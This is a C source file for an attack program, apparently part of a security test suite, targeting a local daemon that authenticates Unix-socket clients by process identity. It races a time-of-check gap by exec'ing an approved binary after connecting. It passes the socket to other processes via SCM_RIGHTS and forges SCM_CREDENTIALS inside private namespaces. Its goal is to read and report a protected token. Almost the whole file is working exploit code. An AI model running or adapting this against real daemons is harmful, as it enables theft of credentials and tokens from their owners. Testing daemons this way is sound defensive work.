/* Rows 3, 4 and 5: connects, keeps the socket in a child, and becomes the approved program before the daemon looks.
 *
 *   attack-handover SOCKET TRIES APPROVED MODE
 *     queued   the request is written before (row 3)
 *     hello    the same, greeting in version 2 first (row 3)
 *     child    the child writes it afterwards (row 4)
 *     passed   a third process gets the socket by SCM_RIGHTS and writes it (row 4)
 *     forged   all in an own user and pid namespace, where the child may sign as anybody (row 5)
 */
#include "attack-common.h"

static const char *mode;

static void pass(int through, int fd)
{
    union { char bytes[CMSG_SPACE(sizeof fd)]; struct cmsghdr align; } control;
    struct iovec part = { "s", 1 };
    struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    if (sendmsg(through, &message, 0) != 1)
        die("SCM_RIGHTS");
}

static int take(int through)
{
    union { char bytes[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } control;
    char c;
    int fd;
    struct iovec part = { &c, 1 };
    struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes };
    if (recvmsg(through, &message, 0) != 1 || CMSG_FIRSTHDR(&message) == NULL)
        die("no descriptor");
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}

static void say_as(int fd, const char *text, pid_t pid)
{
    union { char bytes[CMSG_SPACE(sizeof(struct ucred))]; struct cmsghdr align; } control;
    struct iovec part = { (void *)text, strlen(text) };
    struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes };
    struct ucred claim = { pid, getuid(), getgid() };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_CREDENTIALS;
    header->cmsg_len = CMSG_LEN(sizeof claim);
    memcpy(CMSG_DATA(header), &claim, sizeof claim);
    if (sendmsg(fd, &message, MSG_NOSIGNAL) < 0 && errno != EPIPE && errno != ECONNRESET)
        die("SCM_CREDENTIALS");
}

/* Waits until the connector is the approved program, lets the daemon go on, and takes what it says. */
static void harvest(int fd, int became, int thawed, pid_t connector)
{
    char c;
    int pair[2];
    if (read(became, &c, 1) != 0)
        die("exec");
    if (!strcmp(mode, "passed")) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
            die("socketpair");
        if (fork() == 0) {
            close(fd);
            fd = take(pair[1]);
            close(thawed);
            say(fd, READ_TOKEN);
            report(hear(fd, "\"value\"", 3000));
            _exit(0);
        }
        pass(pair[0], fd);
        close(fd);
        close(thawed);
        wait(NULL);
        _exit(0);
    }
    if (!strcmp(mode, "child"))
        say(fd, READ_TOKEN);
    if (!strcmp(mode, "forged"))
        say_as(fd, READ_TOKEN, connector);
    close(thawed);
    report(hear(fd, "\"value\"", 3000));
    _exit(0);
}

static void connector(const char *path, const char *approved, int thawed)
{
    int became[2];
    pid_t self = getpid();
    if (pipe2(became, O_CLOEXEC) != 0)
        die("pipe");
    int fd = dial(path);
    if (!strcmp(mode, "hello"))
        say(fd, HELLO);
    if (!strcmp(mode, "hello") || !strcmp(mode, "queued"))
        say(fd, READ_TOKEN);
    pid_t child = fork();
    if (child == 0) {
        close(became[1]);
        harvest(fd, became[0], thawed, self);
    }
    close(thawed);
    execl(approved, approved, path, "pause", (char *)NULL);
    die("exec");
}

static void attempt(const char *path, const char *approved, pid_t server)
{
    int thawed[2], over[2];
    char c;
    if (pipe2(thawed, O_CLOEXEC) != 0 || pipe2(over, O_CLOEXEC) != 0)
        die("pipe");
    freeze(server);
    pid_t first = fork();
    if (first == 0) {
        close(thawed[0]);
        close(over[0]);
        if (!strcmp(mode, "forged")) {
            own_namespaces(CLONE_NEWPID);
            first = fork();
            if (first != 0) {
                close(thawed[1]);
                close(over[1]);
                waitpid(first, NULL, 0);
                _exit(0);
            }
            prctl(PR_SET_PDEATHSIG, SIGKILL);
        }
        connector(path, approved, thawed[1]);
    }
    close(thawed[1]);
    close(over[1]);
    if (read(thawed[0], &c, 1) != 0)
        die("thaw");
    thaw(server);
    if (read(over[0], &c, 1) != 0)
        die("over");
    kill(first, SIGKILL);
    while (waitpid(-1, NULL, 0) > 0)
        ;
    close(thawed[0]);
    close(over[0]);
}

int main(int count, char **arguments)
{
    if (count < 5)
        return 2;
    mode = arguments[4];
    pid_t server = server_of(arguments[1]);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    for (int tries = atoi(arguments[2]); tries > 0; tries--)
        attempt(arguments[1], arguments[3], server);
    return 0;
}
